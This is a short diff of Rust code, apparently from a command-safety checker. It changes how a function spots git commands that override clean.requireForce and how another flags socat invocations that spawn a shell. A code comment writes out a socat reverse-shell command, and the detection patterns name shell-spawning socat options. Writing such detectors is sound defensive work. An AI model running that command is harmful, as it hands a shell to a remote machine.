@@ -33,7 +33,7 @@ impl CommandCall<'_, '_> {
 fn forces_clean(simple: &Simple<'_>, usage: &Usage) -> bool {
     let dry = usage.options.iter().any(|used| matches!(used.key.as_ref(), "-n" | "--dry-run"));
     let sets = |item: &Item<'_>| {
-        let shown = item.shown().likely();
+        let shown = item.shown();
         let (name, value) = shown.split_once('=').unwrap_or((shown, ""));
         let name = name.trim_start_matches("-c").trim_start_matches("--config-env");
         name.eq_ignore_ascii_case("clean.requireForce") && !matches!(value.to_ascii_lowercase().as_str(), "true" | "1")
@@ -45,7 +45,7 @@ fn forces_clean(simple: &Simple<'_>, usage: &Usage) -> bool {
 
 /// `socat TCP:host:1 EXEC:/bin/sh`: another machine gets a program to talk to.
 fn gives_a_shell(simple: &Simple<'_>) -> bool {
-    let kind = |item: &Item<'_>| item.shown().likely().split([':', ',']).next().unwrap_or("").to_ascii_uppercase();
+    let kind = |item: &Item<'_>| item.shown().split([':', ',']).next().unwrap_or("").to_ascii_uppercase();
     simple.items.iter().skip(1).any(|item| matches!(kind(item).as_str(), "EXEC" | "SYSTEM" | "SHELL"))
 }
 
